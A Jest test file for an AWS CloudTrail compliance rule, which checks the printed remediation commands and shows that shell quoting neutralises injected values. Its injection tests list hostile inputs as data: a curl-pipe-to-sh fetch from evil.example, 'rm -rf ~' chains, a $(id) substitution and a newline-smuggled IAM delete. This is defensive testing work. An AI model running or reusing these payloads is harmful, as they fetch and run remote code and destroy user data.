import { evaluateAccount } from '../../lambda/rule/evaluate';
import { aws, shellQuote } from '../../lambda/rule/remediation';
import type { TrailFacts } from '../../lambda/rule/types';
import { DEFAULT_CLASSIC, MANAGEMENT, trail } from './fixtures';

const DEFAULT = { strict: false };

describe('remediation carries real names', () => {
  test('no trails: create a multi-region trail and start logging', () => {
    const v = evaluateAccount([], DEFAULT);
    expect(v.remediation[0]).toBe('aws cloudtrail create-trail --name <trail-name> --bucket-name <log-bucket> --is-multi-region-trail');
    expect(v.remediation).toContain('aws cloudtrail start-logging --name <trail-name>');
  });

  test('stopped trail: start-logging with its name and home region', () => {
    const v = evaluateAccount([trail({ name: 'audit', homeRegion: 'eu-west-1', logging: false })], DEFAULT);
    expect(v.remediation).toEqual(['aws cloudtrail start-logging --name audit --region eu-west-1']);
  });

  test('single-region trails: update each to multi-region', () => {
    const v = evaluateAccount([trail({ name: 'trail-a', homeRegion: 'us-east-1', multiRegion: false }), trail({ name: 'trail-b', homeRegion: 'eu-west-1', multiRegion: false })], DEFAULT);
    expect(v.remediation).toEqual([
      'aws cloudtrail update-trail --name trail-a --is-multi-region-trail --region us-east-1',
      'aws cloudtrail update-trail --name trail-b --is-multi-region-trail --region eu-west-1',
    ]);
  });

  test('write-only classic: one selector for all management events, data selectors kept without management events', () => {
    const data = { ReadWriteType: 'WriteOnly', IncludeManagementEvents: true, DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3:::bucket/'] }] };
    const v = evaluateAccount([trail({ name: 'main', classic: [data] })], DEFAULT);
    const cmd = v.remediation[0];
    expect(cmd.startsWith("aws cloudtrail put-event-selectors --trail-name main --region us-east-1 --event-selectors '")).toBe(true);
    const json = JSON.parse(cmd.slice(cmd.indexOf("'") + 1, -1));
    expect(json).toEqual([
      { ReadWriteType: 'All', IncludeManagementEvents: true },
      { ReadWriteType: 'WriteOnly', IncludeManagementEvents: false, DataResources: data.DataResources },
    ]);
  });

  test('advanced read-only: data selectors kept, management selector replaced by an unfiltered one', () => {
    const dataSel = { Name: 'S3 data', FieldSelectors: [{ Field: 'eventCategory', Equals: ['Data'] }, { Field: 'resources.type', Equals: ['AWS::S3::Object'] }] };
    const ro = { Name: 'mgmt', FieldSelectors: [{ Field: 'eventCategory', Equals: ['Management'] }, { Field: 'readOnly', Equals: ['true'] }] };
    const v = evaluateAccount([trail({ advanced: [dataSel, ro] })], DEFAULT);
    const cmd = v.remediation[0];
    const json = JSON.parse(cmd.slice(cmd.indexOf("'") + 1, -1));
    expect(json).toEqual([dataSel, { Name: 'Management events', FieldSelectors: [{ Field: 'eventCategory', Equals: ['Management'] }] }]);
  });

  test('organization trail: the fix belongs in the owner account', () => {
    const v = evaluateAccount([trail({ org: true, name: 'org-trail', logging: false })], DEFAULT);
    expect(v.remediation).toEqual([`In the organization trail's owner account ${MANAGEMENT} (the fix belongs there): aws cloudtrail start-logging --name org-trail --region us-east-1`]);
  });

  test('single-region organization trail: fix in the owner, or create an own trail', () => {
    const v = evaluateAccount([trail({ org: true, name: 'org-trail', multiRegion: false })], DEFAULT);
    expect(v.remediation[0]).toContain(`owner account ${MANAGEMENT}`);
    expect(v.remediation[0]).toContain('update-trail --name org-trail --is-multi-region-trail');
    expect(v.remediation).toContain('aws cloudtrail create-trail --name <trail-name> --bucket-name <log-bucket> --is-multi-region-trail');
  });

  test('PASS has no remediation', () => {
    expect(evaluateAccount([trail({ classic: [DEFAULT_CLASSIC] })], DEFAULT).remediation).toEqual([]);
  });
});

describe('printed commands cannot be turned into other commands', () => {
  // Every shell metacharacter, alone and in combination, as a value that reaches an argument.
  const hostile = [';', '|', '&', '&&', '$', '$(id)', '`id`', '(', ')', '<', '>', '>>', '*', '?', '[', ']', '{', '}', '~', '#', '!', '\\', '"', "'", ' ', '\t', '\n', '\r', '\u001b[2J', "'; rm -rf ~; echo '", 't; curl -s https://evil.example/p | sh #'];

  test.each(hostile)('shellQuote(%j) is one inert word for sh', (value) => {
    const { execFileSync } = require('node:child_process') as typeof import('node:child_process');
    // sh prints back exactly the one argument it received: nothing ran, nothing split.
    const out = execFileSync('sh', ['-c', `printf '%s\\0' ${shellQuote(`x${value}y`)}`]).toString();
    expect(out).toBe(`x${value}y\0`);
  });

  test('safe words stay unquoted, so commands read as the CIS text writes them', () => {
    expect(aws('cloudtrail', 'start-logging', '--name', 'org-trail.v2_a', '--region', 'us-east-1')).toBe('aws cloudtrail start-logging --name org-trail.v2_a --region us-east-1');
  });

  test('a selector value with a quote stays inside its quoted argument', () => {
    const data = { ReadWriteType: 'All', IncludeManagementEvents: true, DataResources: [{ Type: 'AWS::S3::Object', Values: ["arn:aws:s3:::b/'; curl evil | sh; echo '"] }] };
    const v = evaluateAccount([trail({ name: 'main', classic: [{ ...data, ReadWriteType: 'WriteOnly' }] })], DEFAULT);
    const { execFileSync } = require('node:child_process') as typeof import('node:child_process');
    const argv = execFileSync('sh', ['-c', `printf '%s\\0' ${v.remediation[0].replace(/^aws /, '')}`]).toString().split('\0').slice(0, -1);
    expect(argv.slice(0, 5)).toEqual(['cloudtrail', 'put-event-selectors', '--trail-name', 'main', '--region']);
    expect(JSON.parse(argv[7])[1].DataResources[0].Values[0]).toBe(data.DataResources[0].Values[0]);
    expect(argv).toHaveLength(8);
  });

  test.each([
    ['a name with ;', { name: 't; curl -s https://evil.example/p | sh #' }],
    ['a name with $( )', { name: 'x$(id>pwned)' }],
    ['a name with a newline', { name: 'main\naws iam delete-user' }],
    ['a region with &&', { homeRegion: 'us-east-1 && rm -rf ~' }],
  ])('facts the adapters would have rejected (%s): no command is printed from them', (_name, bad) => {
    const good = trail({ logging: false });
    const facts: TrailFacts = { ...good, ...bad };
    const v = evaluateAccount([facts], DEFAULT);
    expect(v.status).toBe('FAIL');
    for (const step of v.remediation) {
      expect(step).not.toMatch(/aws cloudtrail/);
      expect(step).not.toContain(facts.name === good.name ? facts.homeRegion : facts.name);
    }
  });
});
